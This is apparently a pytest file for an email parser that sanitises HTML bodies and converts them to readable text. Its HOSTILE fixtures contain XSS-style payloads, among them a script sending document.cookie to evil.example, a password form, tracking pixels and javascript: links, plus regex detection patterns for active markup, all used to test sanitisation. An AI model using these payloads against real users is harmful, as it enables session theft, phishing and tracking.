"""HTML bodies: readable text for the pipeline, and only sanitised markup kept for staff to see."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest

from parsers.body import html_to_text, sanitize_html, unflow
from parsers.email import EmailParseError, parse_email
from tests.parsers.email_fixtures import all_message_files

HOSTILE = {
    "script": '<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',
    "event-handler": '<p onclick="steal()" onmouseover="steal()">Hi</p><img src="cid:a" onerror="steal()">',
    "javascript-url": '<a href="javascript:steal()">Hi</a><a href=" JaVaScRiPt:steal()">x</a>',
    "data-url": '<a href="data:text/html;base64,PHNjcmlwdD4=">Hi</a>',
    "remote-image": '<p>Hi</p><img src="https://tracker.example/pixel.gif?u=staff" width="1" height="1">',
    "style-element": "<style>body{background:url(https://tracker.example/bg)} .x{display:none}</style><p>Hi</p>",
    "style-attribute": '<p style="position:fixed;top:0;background:url(https://tracker.example/p)">Hi</p>',
    "iframe-form": '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input '
    'name="password"></form><p>Hi</p>',
    "meta-base-link": '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.'
    'example/"><link rel="stylesheet" href="https://evil.example/a.css"><p>Hi</p>',
    "svg": '<svg onload="steal()"><script>steal()</script></svg><p>Hi</p>',
    "object-embed": '<object data="https://evil.example/x.swf"></object><embed src="x.swf"><p>Hi</p>',
}
FORBIDDEN = re.compile(
    r"<script|<style|<iframe|<form|<input|<meta|<base|<link|<svg|<object|<embed|\son\w+\s*=|javascript:|data:"
    r"|style=|https?://tracker|src=\"https?:",
    re.IGNORECASE,
)

ACTIVE = re.compile(r"<script|\son\w+\s*=\s*[\"']|javascript:|<style|<img[^>]+src=\"https?:", re.IGNORECASE)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_html_is_neutralised(name: str) -> None:
    message = EmailMessage()
    message["From"] = "attacker@example.org"
    message["Subject"] = "report"
    message.set_content("Hi")
    message.add_alternative(HOSTILE[name], subtype="html")
    parsed = parse_email(bytes(message))
    assert parsed.body_html is not None
    assert not FORBIDDEN.search(parsed.body_html), parsed.body_html
    assert "Hi" in parsed.body_html


def test_links_survive_with_safe_rel_and_inline_images_keep_their_cid() -> None:
    cleaned = sanitize_html('<a href="https://maps.example/?q=1,2">map</a><img src="cid:photo1" alt="hole">')
    assert 'href="https://maps.example/?q=1,2"' in cleaned and 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'src="cid:photo1"' in cleaned


def test_no_corpus_message_leaves_active_html_behind() -> None:
    checked = 0
    for path in all_message_files():
        raw = path.read_bytes()
        if b"text/html" not in raw.lower():
            continue
        try:
            parsed = parse_email(raw)
        except EmailParseError:
            continue
        if parsed.body_html:
            checked += 1
            found = ACTIVE.search(parsed.body_html)
            assert found is None, (path.name, found)
    assert checked > 50


def test_html_only_mail_becomes_readable_text() -> None:
    html = (
        "<html><head><title>x</title><style>p{color:red}</style></head><body><p>Pothole at&nbsp;<b>12 Elm St</b>"
        "</p><ul><li>deep</li><li>wide</li></ul><p>Map: <a href='https://maps.example/?q=41.1,-71.2'>here</a></p>"
        "<blockquote>older text</blockquote></body></html>"
    )
    text = html_to_text(html)
    assert "Pothole at 12 Elm St" in text
    assert "- deep" in text and "- wide" in text
    assert "https://maps.example/?q=41.1,-71.2" in text  # map links reach the location stage
    assert "> older text" in text
    assert "color:red" not in text and "x\n" not in text


def test_format_flowed_is_joined_but_signature_delimiter_is_not() -> None:
    assert unflow("The light on \nElm is out\n-- \nJane") == "The light on Elm is out\n-- \nJane"
    assert unflow("> quoted \n> more\nnew") == "> quoted more\nnew"
    assert unflow("ab\ncd", delsp=True) == "ab\ncd"
